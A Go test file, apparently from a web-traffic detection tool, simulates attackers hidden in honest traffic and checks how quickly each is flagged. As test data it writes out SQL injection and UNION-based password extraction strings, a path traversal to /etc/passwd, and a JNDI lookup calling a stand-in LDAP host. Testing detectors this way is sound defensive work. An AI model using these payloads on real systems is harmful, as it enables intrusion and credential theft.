package rules_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/honeymoat/honeymoat/pkg/finding"
)

// attacker is somebody who has to be found among honest traffic.
type attacker struct {
	act func(t *traffic, c client, from time.Time)
	// within is how many requests of theirs may pass before the finding that
	// somebody is told of.
	within int
	// blocked: the finding asks for a block.
	blocked bool
}

// attackers by what they do. None of them says what it is by its user agent.
func attackers() map[string]attacker {
	return map[string]attacker{
		"a probe a minute":        {slowProbes, 4, true},
		"words, a minute each":    {slowWords, 20, true},
		"words, fast":             {fastWords, 12, true},
		"injections":              {injections, 3, true},
		"a database read":         {extraction, 1, true},
		"a path to passwd":        {passwd, 1, true},
		"a lookup in a header":    {lookup, 1, true},
		"credential stuffing":     {stuffing, 20, true},
		"slow stuffing":           {slowStuffing, 60, true},
		"orders of others":        {orders, 10, true},
		"users guessed":           {users, 300, false},
		"functions of operators":  {operators, 5, true},
		"one-time codes":          {codes, 10, true},
		"a form bot":              {formBot, 3, true},
		"a copy of the catalogue": {copier, 150, false},
		"a table taken away":      {taker, 60, false},
		"XML-RPC":                 {xmlrpc, 10, true},
		"comments":                {comments, 10, true},
		"a tunnel":                {tunnel, 1, true},
	}
}

func TestAttackersAreFoundAmongHonestTraffic(t *testing.T) {
	made := newTraffic()
	people(made, dayOne)
	partners(made, dayOne)
	searchEngines(made, dayOne)
	planted := map[string]client{}
	for name, a := range attackers() {
		c := client{fmt.Sprintf("198.18.%d.7", len(planted)), "", firefox}
		planted[name] = c
		a.act(made, c, dayOne.Add(10*time.Hour))
	}
	told := map[string][]finding.Finding{}
	for _, f := range made.findings(t) {
		if f.Tier > finding.Log {
			told[f.Actor.Value] = append(told[f.Actor.Value], f)
		}
	}
	for name, c := range planted {
		judge(t, made, name, c, told[c.addr])
		delete(told, c.addr)
	}
	for who, findings := range told {
		t.Errorf("%s is honest: %s: %s", who, findings[0].Title, findings[0].Reason)
	}
}

// judge looks at what somebody was told of an attacker, in its order.
func judge(t *testing.T, made *traffic, name string, c client, told []finding.Finding) {
	t.Helper()
	a := attackers()[name]
	for _, f := range told {
		if a.blocked && (f.Wanted.LifetimeSeconds == 0 || f.Wanted.Shadow) {
			continue
		}
		if passed := made.until(c, f.Time); passed > a.within {
			t.Errorf("%s: found by %q after %d requests, want %d", name, f.Title, passed, a.within)
		}
		return
	}
	t.Errorf("%s: not found, or not blocked: %d findings", name, len(told))
}

// until counts the requests of a client up to a time.
func (t *traffic) until(c client, end time.Time) int {
	n := 0
	for _, l := range t.lines {
		if strings.HasPrefix(l.text, c.addr+" ") && l.at.Truncate(time.Second).Compare(end) <= 0 {
			n++
		}
	}
	return n
}

func slowProbes(t *traffic, c client, from time.Time) {
	paths := []string{"/wp-login.php", "/phpmyadmin/", "/actuator/env", "/backup.zip", "/owa/", "/server-status", "/admin.php", "/solr/", "/phpinfo.php", "/xmlrpc.php"}
	t.every(from, time.Minute, time.Hour, func(i int, at time.Time) {
		t.ask(at, c, request{target: paths[i%len(paths)], status: 404})
	})
}

func slowWords(t *traffic, c client, from time.Time) {
	t.every(from, time.Minute, time.Hour, func(i int, at time.Time) {
		t.ask(at, c, request{target: fmt.Sprintf("/%cinternal%c", 'a'+i%26, 'a'+i/26), status: 404})
	})
}

func fastWords(t *traffic, c client, from time.Time) {
	t.every(from, 2*time.Second, time.Minute, func(i int, at time.Time) {
		t.ask(at, c, request{target: fmt.Sprintf("/%cpanel%c/", 'a'+i%26, 'a'+i/26), status: 404})
	})
}

func injections(t *traffic, c client, from time.Time) {
	t.every(from, 10*time.Second, time.Minute, func(i int, at time.Time) {
		t.ask(at, c, request{target: fmt.Sprintf("/products?id=%d%%27%%20or%%20%%27%d%%27=%%27%d", i, i, i)})
	})
}

func extraction(t *traffic, c client, at time.Time) {
	t.ask(at, c, request{target: "/products?id=-1+UNION+ALL+SELECT+NULL,concat(login,0x3a,password),NULL+from+users--+-"})
}

func passwd(t *traffic, c client, at time.Time) {
	t.ask(at, c, request{target: "/view?name=..%252f..%252f..%252f..%252fetc%252fpasswd"})
}

func lookup(t *traffic, c client, at time.Time) {
	c.agent = "${${lower:j}ndi:${lower:l}dap://198.51.100.77/a}"
	t.ask(at, c, request{target: "/"})
}

func stuffing(t *traffic, c client, from time.Time) {
	t.every(from, 2*time.Second, 2*time.Minute, func(_ int, at time.Time) {
		t.ask(at, c, request{target: "/api/v1/login", method: "POST", status: 401})
	})
}

func slowStuffing(t *traffic, c client, from time.Time) {
	t.every(from, 2*time.Minute, 4*time.Hour, func(_ int, at time.Time) {
		t.ask(at, c, request{target: "/api/v1/login", method: "POST", status: 401})
	})
}

func orders(t *traffic, c client, from time.Time) {
	t.every(from, 3*time.Second, 2*time.Minute, func(i int, at time.Time) {
		t.ask(at, c, request{target: fmt.Sprintf("/api/v1/orders/%d", 5000+i), status: 403})
	})
}

func users(t *traffic, c client, from time.Time) {
	t.every(from, 4*time.Second, 20*time.Minute, func(i int, at time.Time) {
		t.ask(at, c, request{target: fmt.Sprintf("/api/v1/users/%d", i), status: oneOf(t, 404, 404, 404, 200)})
	})
}

func operators(t *traffic, c client, from time.Time) {
	for i, what := range []string{"users", "roles", "audit", "tenants", "export", "keys"} {
		t.ask(from.Add(time.Duration(i)*10*time.Second), c, request{target: "/api/v1/admin/" + what, status: 403})
	}
}

func codes(t *traffic, c client, from time.Time) {
	t.every(from, time.Second, time.Minute, func(_ int, at time.Time) {
		t.ask(at, c, request{target: "/api/v1/otp/verify", method: "POST", status: 422})
	})
}

func formBot(t *traffic, c client, at time.Time) {
	t.ask(at, c, request{target: "/", referer: site + "/"})
	t.ask(at.Add(2*time.Second), c, request{target: "/register", referer: site + "/"})
	t.ask(at.Add(4*time.Second), c, request{target: "/register", method: "POST", status: 302, referer: site + "/register"})
}

func copier(t *traffic, c client, from time.Time) {
	t.every(from, 2*time.Second, 20*time.Minute, func(i int, at time.Time) {
		t.ask(at, c, request{target: fmt.Sprintf("/products/%d", i)})
	})
}

func taker(t *traffic, c client, from time.Time) {
	t.every(from, 5*time.Second, 10*time.Minute, func(i int, at time.Time) {
		t.ask(at, c, request{target: fmt.Sprintf("/api/v1/customers?page=%d", i), size: 9 << 20, referer: site + "/"})
	})
}

func xmlrpc(t *traffic, c client, from time.Time) {
	t.every(from, 3*time.Second, time.Minute, func(_ int, at time.Time) {
		t.ask(at, c, request{target: "/xmlrpc.php", method: "POST"})
	})
}

func comments(t *traffic, c client, from time.Time) {
	t.every(from, 20*time.Second, 5*time.Minute, func(_ int, at time.Time) {
		t.ask(at, c, request{target: "/wp-comments-post.php", method: "POST", status: 302})
	})
}

func tunnel(t *traffic, c client, at time.Time) {
	t.ask(at, c, request{target: "mail.example.net:25", method: "CONNECT", status: 405})
}
